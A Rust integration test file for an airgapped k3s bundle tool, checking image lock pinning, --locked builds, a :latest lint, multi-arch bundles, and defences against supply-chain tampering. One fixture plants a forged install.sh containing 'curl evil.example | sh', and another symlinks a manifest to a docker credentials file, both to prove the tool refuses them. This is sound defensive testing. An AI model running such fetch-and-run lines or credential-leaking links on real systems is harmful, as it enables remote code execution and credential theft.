//! images.lock, cargo-style, and the offline-readiness lint, end to end
//! against a real docker-registry: `build --locked` fails naming every
//! difference before it downloads anything; a plain build pins unpinned
//! entries and drops unwanted ones; `bundle lock --check` sees a tag that
//! moved and writes nothing; `bundle lint` names a `:latest` image without a
//! pull policy by file, line and container (`--allow-latest` downgrades it);
//! one bundle carries amd64 and arm64. `bundle lock` reads a cn-layout
//! release mirror, retries server errors as pulls do, and keeps a manifest
//! image named by digest at that digest. A manifest that is a symbolic
//! link is refused by build, lint and lock unless the build follows it.
//! The lock pins the k3s binary and install.sh: a release that swapped the
//! binary and its checksum line fails `build --locked` naming both digests.

use crate::support;

use airgap_bundle::digest::Digest;
use airgap_testbed::proxy::Proxy;
use airgap_testbed::seed::{self, GUESTBOOK_REFS};
use serde_json::json;
use support::lock::{
    add_lock_entry, build_for, entry, lint, lock, move_tag, read_lock, references, write_manifest,
};
use support::tarball::Bundle;
use support::{airgap, assert_fails_naming, assert_ok, dir_names, run, stderr, stdout, Testbed};

const PAUSE: &str = "docker.io/rancher/pause:3.1";
/// The k3s binary of the demo release, as the release server serves it.
const K3S_BINARY_PATH: &str = "/v1.20.6+k3s1/k3s";

/// A manifest image missing from the lock.
const EXTRA_APP: &str = "apiVersion: apps/v1
kind: Deployment
metadata: {name: cache}
spec:
  template:
    spec:
      containers:
        - name: redis
          image: docker.io/library/redis:6.2
          imagePullPolicy: IfNotPresent
";

/// A `:latest` image without a pull policy, in document 2, line 16.
const LATEST_APP: &str = "apiVersion: v1
kind: Service
metadata: {name: web}
spec:
  ports: [{port: 80}]
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  template:
    spec:
      containers:
        - name: nginx
          image: kubeguide/redis-master:latest
";

#[test]
fn a_build_pins_unpinned_entries_and_drops_unwanted_ones() {
    let tb = Testbed::start();
    add_lock_entry(&tb, json!({"reference": "docker.io/old/gone:1"}));
    let before = read_lock(&tb);
    assert!(entry(&before, GUESTBOOK_REFS[0])["digest"].is_null());

    let out = tb.build("site.tar.zst", &["--json"]);
    assert_ok(&out, "build");
    let summary: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(summary["lock_updated"], true);

    // Every wanted image pinned (the k3s system images too), as the
    // registry has it; the entry nobody wants is gone.
    let lock = read_lock(&tb);
    let mut refs = references(&lock);
    refs.sort();
    let mut want = tb.seeded.references();
    want.sort();
    assert_eq!(refs, want, "{lock:#}");
    for image in &tb.seeded.images {
        let e = entry(&lock, &image.reference);
        assert_eq!(e["digest"], image.digest.to_string(), "{}", image.reference);
        let amd64 = image.platform("amd64").unwrap();
        assert_eq!(
            e["platforms"]["linux/amd64"],
            amd64.digest.to_string(),
            "{}",
            image.reference
        );
    }
    assert_eq!(entry(&lock, PAUSE)["sandbox"], true);

    // The lock now fits: a --locked build succeeds and leaves it alone.
    let pinned = std::fs::read(tb.lock_path()).unwrap();
    tb.build_ok("again.tar.zst", &["--locked"]);
    assert_eq!(std::fs::read(tb.lock_path()).unwrap(), pinned);
}

#[test]
fn locked_fails_naming_every_difference_before_downloading() {
    let tb = Testbed::start();
    // The repo's lock is unpinned: --locked names every wanted image.
    let before = std::fs::read(tb.lock_path()).unwrap();
    let out = tb.build("site.tar.zst", &["--locked"]);
    let err = assert_fails_naming(
        &out,
        "build --locked with an unpinned lock",
        &[
            "--locked",
            &format!("{} is in images.lock without a digest", GUESTBOOK_REFS[0]),
            "docker.io/rancher/coredns-coredns:1.8.3 is wanted (k3s) but not in images.lock",
            "airgap bundle lock",
        ],
    );
    assert!(err.contains("differences") || err.contains("difference(s)"));
    tb.assert_no_output(&before);

    // Pin it, then add a manifest image and an entry nobody wants.
    tb.build_ok("first.tar.zst", &[]);
    std::fs::remove_file(tb.out_dir().join("first.tar.zst")).unwrap();
    write_manifest(&tb, "extra.yaml", EXTRA_APP);
    add_lock_entry(
        &tb,
        json!({"reference": "docker.io/old/gone:1", "digest": format!("{}", airgap_bundle::digest::Digest::of(b"gone"))}),
    );
    let before = std::fs::read(tb.lock_path()).unwrap();
    tb.release.reset_counters();
    let out = tb.build("site.tar.zst", &["--locked"]);
    let err = assert_fails_naming(
        &out,
        "build --locked with a new manifest image",
        &[
            "docker.io/library/redis:6.2 is wanted (manifest) but not in images.lock",
            "docker.io/old/gone:1 is in images.lock but no longer wanted",
        ],
    );
    // Nothing else differs, and nothing was downloaded but the image list.
    assert!(err.contains("2 difference(s)"), "{err}");
    tb.assert_no_output(&before);
    assert_eq!(
        tb.release.requests(K3S_BINARY_PATH),
        0,
        "{:?}",
        tb.release.all_requests()
    );
    assert_eq!(tb.release.requests("/v1.20.6+k3s1/k3s-images.txt"), 1);
}

#[test]
fn lock_check_sees_a_moved_tag_and_writes_nothing() {
    let tb = Testbed::start();
    let out = lock(&tb, "amd64", &[]);
    assert_ok(&out, "bundle lock");
    let pinned = read_lock(&tb);
    let master = tb.seeded.get(GUESTBOOK_REFS[0]);
    assert_eq!(
        entry(&pinned, GUESTBOOK_REFS[0])["digest"],
        master.digest.to_string()
    );
    let out = lock(&tb, "amd64", &["--check"]);
    assert_ok(&out, "bundle lock --check on a fresh lock");
    assert!(stdout(&out).contains("up to date"), "{}", stdout(&out));

    // What `lock` pinned is what a build needs: --locked accepts it as is.
    let text = std::fs::read(tb.lock_path()).unwrap();
    tb.build_ok("site.tar.zst", &["--locked"]);
    assert_eq!(std::fs::read(tb.lock_path()).unwrap(), text);

    // The tag moves in the registry.
    let moved = move_tag(&tb, "kubeguide/redis-master", "latest");
    assert_ne!(moved, master.digest);
    let out = lock(&tb, "amd64", &["--check"]);
    let all = format!("{}{}", stdout(&out), stderr(&out));
    assert!(!out.status.success(), "--check passed a moved tag:\n{all}");
    assert_eq!(out.status.code(), Some(1));
    for needle in [
        format!("{} moved", GUESTBOOK_REFS[0]),
        moved.to_string(),
        master.digest.to_string(),
    ] {
        assert!(all.contains(&needle), "no {needle:?} in:\n{all}");
    }
    assert_eq!(
        std::fs::read(tb.lock_path()).unwrap(),
        text,
        "--check wrote"
    );

    let out = lock(&tb, "amd64", &["--check", "--json"]);
    assert_eq!(out.status.code(), Some(1));
    let report: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(report["changes"].as_array().unwrap().len(), 1, "{report:#}");
    assert_eq!(report["changes"][0]["kind"], "moved");
    assert_eq!(report["changes"][0]["current"], moved.to_string());
    assert_eq!(report["written"], false);

    // Without --check the lock follows the registry.
    assert_ok(&lock(&tb, "amd64", &[]), "bundle lock after the move");
    let lock_now = read_lock(&tb);
    assert_eq!(
        entry(&lock_now, GUESTBOOK_REFS[0])["digest"],
        moved.to_string()
    );
    assert_eq!(
        entry(&lock_now, GUESTBOOK_REFS[1]),
        entry(&pinned, GUESTBOOK_REFS[1])
    );
}

#[test]
fn lint_names_a_latest_image_without_pull_policy() {
    let tb = Testbed::start();
    let file = write_manifest(&tb, "app.yaml", LATEST_APP);
    let finding = format!(
        "{}:16 (document 2, Deployment web, container nginx): image kubeguide/redis-master:latest \
         has no imagePullPolicy: IfNotPresent, so the kubelet would try to pull it on site",
        file.display()
    );

    let out = lint(&tb, &[]);
    let all = format!("{}{}", stdout(&out), stderr(&out));
    assert!(!out.status.success(), "lint passed:\n{all}");
    assert!(all.contains(&format!("error: {finding}")), "{all}");

    let out = lint(&tb, &["--allow-latest"]);
    assert_ok(&out, "lint --allow-latest");
    assert!(
        stdout(&out).contains(&format!("warning: {finding}")),
        "{}",
        stdout(&out)
    );

    let out = lint(&tb, &["--json"]);
    assert_eq!(out.status.code(), Some(1));
    let report: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(report["errors"], 1, "{report:#}");
    let f = &report["findings"][0];
    assert_eq!(f["rule"], "latest");
    assert_eq!(f["file"], file.display().to_string());
    assert_eq!(f["line"], 16);
    assert_eq!(f["document"], 2);
    assert_eq!(f["container"], "nginx");
    assert_eq!(f["workload"], "web");

    // A build fails on it before downloading anything.
    let before = std::fs::read(tb.lock_path()).unwrap();
    let out = tb.build("site.tar.zst", &[]);
    assert_fails_naming(&out, "build with a :latest image", &[&finding]);
    tb.assert_no_output(&before);
    assert!(
        tb.release.all_requests().is_empty(),
        "{:?}",
        tb.release.all_requests()
    );

    // An image the lock does not hold is an error even with --allow-latest.
    write_manifest(&tb, "extra.yaml", EXTRA_APP);
    let out = lint(&tb, &["--allow-latest"]);
    let all = format!("{}{}", stdout(&out), stderr(&out));
    assert!(!out.status.success(), "{all}");
    assert!(
        all.contains(
            "(document 1, Deployment cache, container redis): image docker.io/library/redis:6.2"
        ) && all.contains("is not in images.lock"),
        "{all}"
    );
}

#[test]
fn one_bundle_carries_amd64_and_arm64() {
    let tb = Testbed::start();
    // Only multi-arch images: the k3s system images (the guestbook's are
    // amd64 only, and its lock entries are dropped as no longer wanted).
    std::fs::remove_file(tb.manifests_dir().join("guestbook.yaml")).unwrap();
    let out = build_for(&tb, "amd64,arm64", "two.tar.zst", &[]);
    assert_ok(&out, "build --arch amd64,arm64");
    let path = tb.out_dir().join("two.tar.zst");
    assert_eq!(dir_names(&tb.out_dir()), ["two.tar.zst"]);
    let bundle = Bundle::read(&path);

    assert_eq!(bundle.data("bin/amd64/k3s"), seed::K3S_STAND_IN.as_bytes());
    assert_eq!(
        bundle.data("bin/arm64/k3s"),
        seed::k3s_stand_in("arm64").as_bytes()
    );
    let blobs = bundle.blob_names();
    let has =
        |d: &airgap_bundle::digest::Digest| blobs.contains(&format!("images/{}", d.blob_path()));
    let k3s_images: Vec<_> = tb
        .seeded
        .images
        .iter()
        .filter(|i| !GUESTBOOK_REFS.contains(&i.reference.as_str()))
        .collect();
    for image in &k3s_images {
        assert!(has(&image.digest), "{} index", image.reference);
        for arch in ["amd64", "arm64"] {
            let p = image.platform(arch).unwrap();
            assert!(has(&p.digest), "{} {arch} manifest", image.reference);
            for b in image.blobs_for(arch) {
                assert!(
                    has(&b.digest),
                    "{} {arch} blob {}",
                    image.reference,
                    b.digest
                );
            }
        }
        let arm = image.platform("arm").unwrap();
        assert!(
            !has(&arm.digest),
            "{} arm/v7 was not asked for",
            image.reference
        );
    }
    for reference in GUESTBOOK_REFS {
        let master = tb.seeded.get(reference);
        assert!(!has(&master.digest), "{reference} is no longer wanted");
    }

    // The lock pins both platforms of every image, and nothing else.
    let pins = read_lock(&tb);
    assert_eq!(references(&pins).len(), k3s_images.len(), "{pins:#}");
    for image in &k3s_images {
        let e = entry(&pins, &image.reference);
        for (key, arch) in [("linux/amd64", "amd64"), ("linux/arm64", "arm64")] {
            assert_eq!(
                e["platforms"][key],
                image.platform(arch).unwrap().digest.to_string()
            );
        }
    }

    // `bundle lock` agrees with what the build pinned; arm/v7 (with its
    // variant) would be a new platform.
    assert_ok(
        &lock(&tb, "amd64,arm64", &["--check"]),
        "lock --check after a two-arch build",
    );
    let out = lock(&tb, "amd64,arm64,arm", &["--check"]);
    let all = format!("{}{}", stdout(&out), stderr(&out));
    assert_eq!(out.status.code(), Some(1), "{all}");
    assert!(
        all.contains(&format!("{PAUSE} is pinned without linux/arm/v7")),
        "{all}"
    );

    // inspect tells what each arch gets.
    let out = run(airgap().args(["bundle", "inspect"]).arg(&path));
    assert_ok(&out, "inspect");
    let text = stdout(&out);
    let n = k3s_images.len();
    for arch in ["amd64", "arm64"] {
        let line = text
            .lines()
            .find(|l| l.trim_start().starts_with(arch) && l.contains("images,"))
            .unwrap_or_else(|| panic!("no {arch} line in:\n{text}"));
        assert!(line.contains(&format!("{n} images")), "{line}");
    }
    let out = run(airgap().args(["bundle", "inspect", "--json"]).arg(&path));
    assert_ok(&out, "inspect --json");
    let v: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    let per_arch = v["per_arch"].as_array().unwrap();
    assert_eq!(per_arch.len(), 2, "{v:#}");
    for (a, arch) in per_arch.iter().zip(["amd64", "arm64"]) {
        assert_eq!(a["arch"], arch);
        assert_eq!(a["images"], n);
        let want: u64 = k3s_images
            .iter()
            .map(|i| {
                let p = i.platform(arch).unwrap();
                p.size + p.config.size + p.layers.iter().map(|l| l.size).sum::<u64>()
            })
            .sum();
        assert_eq!(a["image_bytes"], want, "{arch}");
    }
    assert_eq!(per_arch[1]["k3s_bytes"], seed::k3s_stand_in("arm64").len());
}

#[test]
fn bundle_lock_uses_the_registry_credentials() {
    let mut tb = Testbed::start();
    let registry = airgap_testbed::Registry::start_with(
        airgap_testbed::RegistryOptions::new().basic_auth("tester", "s3cret"),
    )
    .unwrap();
    support::cache::swap_registry(&mut tb, registry);
    let host = tb.registry.addr().to_string();
    let docker = tb.work().join("docker");
    std::fs::create_dir_all(&docker).unwrap();
    let before = std::fs::read(tb.lock_path()).unwrap();

    let out = run(support::lock::lock_command(&tb, "amd64", &[]).env("DOCKER_CONFIG", &docker));
    assert_fails_naming(&out, "an anonymous bundle lock", &[&host]);
    assert_eq!(std::fs::read(tb.lock_path()).unwrap(), before);

    let pw = tb.work().join("registry-password");
    std::fs::write(&pw, "s3cret\n").unwrap();
    let flag = format!("{host}=tester:{}", pw.display());
    let mut cmd = support::lock::lock_command(&tb, "amd64", &["--registry-auth", &flag]);
    assert_ok(
        &run(cmd.env("DOCKER_CONFIG", &docker)),
        "lock --registry-auth",
    );
    let pins = read_lock(&tb);
    assert_eq!(
        entry(&pins, GUESTBOOK_REFS[0])["digest"],
        tb.seeded.get(GUESTBOOK_REFS[0]).digest.to_string()
    );
}

/// A Deployment whose containers name their images by digest, one without
/// a tag and one with a tag as well; `{slave}` and `{frontend}` are filled in.
fn pinned_app(slave: &str, frontend: &str) -> String {
    format!(
        "apiVersion: apps/v1
kind: Deployment
metadata: {{name: pinned}}
spec:
  template:
    spec:
      containers:
        - name: slave
          image: docker.io/kubeguide/guestbook-redis-slave@{slave}
          imagePullPolicy: IfNotPresent
        - name: frontend
          image: kubeguide/guestbook-php-frontend:latest@{frontend}
          imagePullPolicy: IfNotPresent
"
    )
}

/// Writes [`pinned_app`] for the seeded images in place of the guestbook,
/// then moves both tags, so that a tag never resolves to the pinned digest.
fn pin_by_digest(tb: &Testbed) -> (String, String) {
    let slave = tb.seeded.get(GUESTBOOK_REFS[1]).digest.to_string();
    let frontend = tb.seeded.get(GUESTBOOK_REFS[2]).digest.to_string();
    std::fs::remove_file(tb.manifests_dir().join("guestbook.yaml")).unwrap();
    write_manifest(tb, "pinned.yaml", &pinned_app(&slave, &frontend));
    for repository in [
        "kubeguide/guestbook-redis-slave",
        "kubeguide/guestbook-php-frontend",
    ] {
        move_tag(tb, repository, "latest");
    }
    (slave, frontend)
}

/// A manifest image given by digest (`repo@sha256:…`, `repo:tag@sha256:…`)
/// is pinned by the manifest itself: `bundle lock` checks that the registry
/// has that digest (for each platform) and never resolves its tag, writes no
/// entry for it (images.lock references carry no digest) and `--check`
/// never reports drift for it, however its tag moves.
#[test]
fn bundle_lock_keeps_a_digest_pinned_image_at_its_digest() {
    let tb = Testbed::start();
    let (slave, frontend) = pin_by_digest(&tb);

    let out = lock(&tb, "amd64", &["--json"]);
    assert_ok(&out, "bundle lock with digest-pinned images");
    let report: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    let pins = read_lock(&tb);
    for reference in references(&pins) {
        assert!(!reference.contains('@'), "{reference} in {pins:#}");
        assert!(!reference.contains("kubeguide"), "{reference} in {pins:#}");
    }
    // Only the guestbook's tag entries go (no longer wanted).
    for change in report["changes"].as_array().unwrap() {
        let reference = change["reference"].as_str().unwrap();
        assert!(!reference.contains('@'), "{report:#}");
        if reference.contains("kubeguide") {
            assert_eq!(change["kind"], "extra", "{report:#}");
        }
    }
    // The lock still parses and covers the manifests.
    assert_ok(&lint(&tb, &[]), "bundle lint after bundle lock");

    move_tag(&tb, "kubeguide/guestbook-redis-slave", "latest");
    let out = lock(&tb, "amd64", &["--check"]);
    assert_ok(&out, "bundle lock --check after the tags moved");
    assert!(stdout(&out).contains("up to date"), "{}", stdout(&out));

    // A digest the registry does not have fails, naming it.
    let gone = airgap_bundle::digest::Digest::of(b"never pushed").to_string();
    write_manifest(&tb, "pinned.yaml", &pinned_app(&gone, &frontend));
    let out = lock(&tb, "amd64", &["--check"]);
    assert_fails_naming(
        &out,
        "bundle lock --check with an unknown digest",
        &[&format!("docker.io/kubeguide/guestbook-redis-slave@{gone}")],
    );
    let _ = slave;
}

/// A build pulls digest-pinned manifest images by their digests, `--locked`
/// accepts a lock without entries for them, and the lock it leaves parses.
#[test]
fn a_build_pulls_digest_pinned_images_by_digest() {
    let tb = Testbed::start();
    let (slave, frontend) = pin_by_digest(&tb);
    assert_ok(&lock(&tb, "amd64", &[]), "bundle lock");
    let pinned = std::fs::read(tb.lock_path()).unwrap();

    let path = tb.build_ok("pinned.tar.zst", &["--locked"]);
    let bundle = Bundle::read(&path);
    let blobs = bundle.blob_names();
    for digest in [&slave, &frontend] {
        let d: airgap_bundle::digest::Digest = digest.parse().unwrap();
        assert!(
            blobs.contains(&format!("images/{}", d.blob_path())),
            "{digest} not in {blobs:?}"
        );
    }
    assert_eq!(std::fs::read(tb.lock_path()).unwrap(), pinned);

    std::fs::remove_file(&path).unwrap();
    tb.build_ok("again.tar.zst", &[]);
    assert_ok(&lint(&tb, &[]), "bundle lint after a build");
}

/// `bundle lock --release-layout cn` reads `k3s-images.txt` from a mirror in
/// the China layout; 503s from the registry are retried, and a registry that
/// keeps failing is given up on naming it, the image and the last status.
#[test]
fn bundle_lock_reads_the_cn_layout_and_retries_server_errors() {
    let tb = Testbed::start();
    let proxy = Proxy::start(tb.registry.addr()).unwrap();
    let mirror = format!("docker.io={}", proxy.url());
    let manifest = "/v2/kubeguide/redis-master/manifests/latest";
    proxy.fail(manifest, 503, 2);
    let out = lock(
        &tb,
        "amd64",
        &["--release-layout", "cn", "--registry-mirror", &mirror],
    );
    assert_ok(
        &out,
        "bundle lock --release-layout cn through a failing proxy",
    );
    assert_eq!(tb.release.requests("/k3s/v1.20.6-k3s1/k3s-images.txt"), 1);
    assert_eq!(tb.release.requests("/v1.20.6+k3s1/k3s-images.txt"), 0);
    let statuses: Vec<u16> = proxy
        .forwarded_matching(manifest)
        .iter()
        .map(|f| f.status)
        .collect();
    assert_eq!(statuses, [503, 503, 200]);
    assert_eq!(
        entry(&read_lock(&tb), GUESTBOOK_REFS[0])["digest"],
        tb.seeded.get(GUESTBOOK_REFS[0]).digest.to_string()
    );

    proxy.fail(manifest, 500, 100);
    let out = lock(&tb, "amd64", &["--check", "--registry-mirror", &mirror]);
    assert_fails_naming(
        &out,
        "bundle lock against a registry that keeps failing",
        &[
            &proxy.addr(),
            GUESTBOOK_REFS[0],
            "HTTP 500",
            "after 5 attempts",
        ],
    );
}

/// A Service only: no image, so the lock and the lint are not concerned.
const SERVICE_ONLY: &str = "apiVersion: v1
kind: Service
metadata: {name: linked}
spec:
  ports: [{port: 80}]
";

#[test]
fn a_manifest_that_is_a_symlink_is_refused_unless_followed() {
    // The attack: a checkout's manifests/creds.json links to the builder's
    // docker config; the old code read it through the link and signed it
    // into the bundle as manifests/creds.json.
    let tb = Testbed::start();
    let docker = tb.work().join("home/.docker");
    std::fs::create_dir_all(&docker).unwrap();
    let config = docker.join("config.json");
    let secret = "c2l0ZS1ib3Q6aHVudGVyMg==";
    std::fs::write(
        &config,
        format!(r#"{{"auths":{{"registry.example":{{"auth":"{secret}"}}}}}}"#),
    )
    .unwrap();
    let link = tb.manifests_dir().join("creds.json");
    std::os::unix::fs::symlink(&config, &link).unwrap();
    let named = format!(
        "manifest {} is a symbolic link to {}",
        link.display(),
        config.display()
    );

    // build, lint and lock refuse it, naming the link and its target,
    // before anything is downloaded; nothing is written.
    let before = std::fs::read(tb.lock_path()).unwrap();
    let out = tb.build("site.tar.zst", &[]);
    assert_fails_naming(&out, "build with a linked manifest", &[&named]);
    tb.assert_no_output(&before);
    let out = lint(&tb, &[]);
    assert_fails_naming(&out, "lint with a linked manifest", &[&named]);
    let out = lock(&tb, "amd64", &[]);
    assert_fails_naming(&out, "lock with a linked manifest", &[&named]);
    assert_eq!(std::fs::read(tb.lock_path()).unwrap(), before);
    assert!(
        tb.release.all_requests().is_empty(),
        "{:?}",
        tb.release.all_requests()
    );

    // With --follow-symlinks a link (here relative, to a file outside) is
    // followed and reported as link -> target.
    std::fs::remove_file(&link).unwrap();
    let outside = tb.work().join("shared");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("linked.yaml"), SERVICE_ONLY).unwrap();
    let link = tb.manifests_dir().join("linked.yaml");
    std::os::unix::fs::symlink("../shared/linked.yaml", &link).unwrap();
    let out = tb.build("refused.tar.zst", &[]);
    assert_fails_naming(
        &out,
        "build with a relative link",
        &[&format!(
            "manifest {} is a symbolic link to ../shared/linked.yaml",
            link.display()
        )],
    );
    let out = tb.build("site.tar.zst", &["--follow-symlinks"]);
    assert_ok(&out, "build --follow-symlinks");
    let target = outside.join("linked.yaml").canonicalize().unwrap();
    let said = format!(
        "following the symbolic link {} -> {}",
        link.display(),
        target.display()
    );
    assert!(stderr(&out).contains(&said), "{}", stderr(&out));
    let bundle = Bundle::read(&tb.out_dir().join("site.tar.zst"));
    assert_eq!(
        bundle.data("manifests/linked.yaml"),
        SERVICE_ONLY.as_bytes()
    );
    assert!(
        !bundle.names().iter().any(|n| n.contains("creds")),
        "{:?}",
        bundle.names()
    );
}

#[test]
fn a_locked_build_refuses_a_k3s_binary_the_release_swapped() {
    // The attack: whoever controls the release server (or a mirror) swaps
    // the k3s binary and its sha256sum line after the lock was made. The
    // old lock pinned only images, so `build --locked` took the new binary.
    let tb = Testbed::start();
    assert_ok(&lock(&tb, "amd64", &[]), "bundle lock");
    let version = seed::DEMO_VERSION;
    let served = |asset: &str| {
        Digest::of(&std::fs::read(tb.release_root.path().join(version).join(asset)).unwrap())
    };
    let old = served("k3s");
    let served_before_install_sh = served("install.sh");
    // The pins as `bundle lock` wrote them satisfy --locked.
    tb.build_ok("before.tar.zst", &["--locked"]);
    let before_requests = tb.release.requests(K3S_BINARY_PATH);

    seed::write_demo_release(tb.release_root.path(), b"#!/bin/sh\necho swapped k3s\n").unwrap();
    let new = served("k3s");
    assert_ne!(new, old);
    let lock_before = std::fs::read(tb.lock_path()).unwrap();
    std::fs::remove_file(tb.out_dir().join("before.tar.zst")).unwrap();
    let out = tb.build("swapped.tar.zst", &["--locked"]);
    assert_fails_naming(
        &out,
        "build --locked against a swapped k3s binary",
        &[
            &format!("k3s: images.lock pins {old}"),
            "sha256sum-amd64.txt from ",
            &format!("now lists {new}"),
        ],
    );
    tb.assert_no_output(&lock_before);
    assert_eq!(
        tb.release.requests(K3S_BINARY_PATH),
        before_requests,
        "the swapped binary was downloaded"
    );
    // `bundle lock --check` reports it, and writes nothing.
    let out = lock(&tb, "amd64", &["--check"]);
    let all = format!("{}{}", stdout(&out), stderr(&out));
    assert!(!out.status.success(), "{all}");
    assert!(
        all.contains(&format!(
            "k3s of k3s {version} is now {new}, images.lock pins {old}"
        )),
        "{all}"
    );
    assert_eq!(std::fs::read(tb.lock_path()).unwrap(), lock_before);
    // What made it refuse: the pins `bundle lock` wrote.
    let pinned = read_lock(&tb);
    assert_eq!(
        pinned["release"][version]["k3s"],
        old.to_string(),
        "{pinned:#}"
    );
    assert_eq!(
        pinned["release"][version]["install.sh"],
        served_before_install_sh.to_string(),
        "{pinned:#}"
    );
}

#[test]
fn install_sh_is_pinned_and_a_cached_url_is_no_pin() {
    // The attack: a forged install.sh planted in the download cache under
    // the script's URL (the cache trusts no file, but the old build took
    // its URL -> digest entry as the digest to check against).
    let tb = Testbed::start();
    let version = seed::DEMO_VERSION;
    let served = std::fs::read(tb.release_root.path().join(version).join("install.sh")).unwrap();
    tb.build_ok("first.tar.zst", &[]);
    let first_lock = read_lock(&tb);

    // Without the lock's pin, the cached entry for the URL is not used.
    let forged = b"#!/bin/sh\ncurl evil.example | sh\n";
    let forged_digest = Digest::of(forged);
    let cache = tb.work().join("cache/airgap");
    std::fs::write(cache.join("blobs/sha256").join(forged_digest.hex()), forged).unwrap();
    let url = format!(
        "{}/{}/install.sh",
        tb.release.url().trim_end_matches('/'),
        version.replace('+', "%2B")
    );
    let entry = cache.join("urls").join(Digest::of(url.as_bytes()).hex());
    assert!(entry.is_file(), "the cache remembers {url}");
    std::fs::write(&entry, format!("{}\n", forged_digest.hex())).unwrap();
    let mut unpinned = first_lock.clone();
    // (get_mut, not indexing: an index would add an empty "release".)
    let pins = unpinned
        .get_mut("release")
        .and_then(|r| r.get_mut(version))
        .and_then(|p| p.as_object_mut());
    if let Some(pins) = pins {
        pins.remove("install.sh");
    }
    std::fs::write(
        tb.lock_path(),
        serde_json::to_string_pretty(&unpinned).unwrap() + "\n",
    )
    .unwrap();
    let bundle = tb.build_ok("second.tar.zst", &["--rebuild"]);
    assert_eq!(
        Bundle::read(&bundle).data("scripts/install.sh"),
        &served[..],
        "the forged install.sh from the cache went into the bundle"
    );
    // Each build pinned what it fetched.
    for lock in [first_lock, read_lock(&tb)] {
        assert_eq!(
            lock["release"][version]["install.sh"],
            Digest::of(&served).to_string(),
            "a build pins install.sh: {lock:#}"
        );
    }
}
